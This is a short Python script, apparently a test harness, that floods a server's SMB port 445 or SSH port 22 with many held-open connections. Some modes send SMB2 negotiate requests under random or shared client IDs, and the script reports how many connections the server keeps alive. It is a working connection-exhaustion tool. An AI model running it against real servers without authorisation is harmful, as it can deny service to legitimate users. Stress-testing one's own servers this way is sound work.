"""Opens connections to a server's port 445 (22 with `ssh`) and keeps them open.

python3 flood.py HOST FROM COUNT idle|negotiate|channels|ssh SECONDS

FROM is the source address. `negotiate` begins SMB as another client each time, `channels` as one client with many channels. The program
prints `open N` when it has tried all connections or when SECONDS are over. For each line on stdin it prints `alive N`: how many connections
the server has not closed. It ends when stdin ends.
"""
import os
import resource
import socket
import struct
import sys
import time

host, source, count, what, seconds = sys.argv[1:]
resource.setrlimit(resource.RLIMIT_NOFILE, (20_000, 20_000))

HEADER = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, 0, 31, 0, 0, 0, 0, 0, 0) + bytes(16)


def negotiate():
    client = b"\1" * 16 if what == "channels" else os.urandom(16)
    message = HEADER + struct.pack("<HHHHI", 36, 1, 1, 0, 0) + client + bytes(8) + struct.pack("<H", 0x0302)
    return struct.pack(">I", len(message)) + message


def opened():
    place = socket.socket()
    place.settimeout(5)
    place.bind((source, 0))
    try:
        place.connect((host, 22 if what == "ssh" else 445))
        if what in ("negotiate", "channels"):
            place.sendall(negotiate())
    except OSError:
        place.close()
        return None
    place.setblocking(False)
    return place


def alive(place):
    try:
        while data := place.recv(4096):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


until, places = time.monotonic() + float(seconds), []
for _ in range(int(count)):
    if time.monotonic() > until:
        break
    place = opened()
    if place:
        places.append(place)
print("open", len(places), flush=True)
for _ in sys.stdin:
    print("alive", sum(map(alive, places)), flush=True)
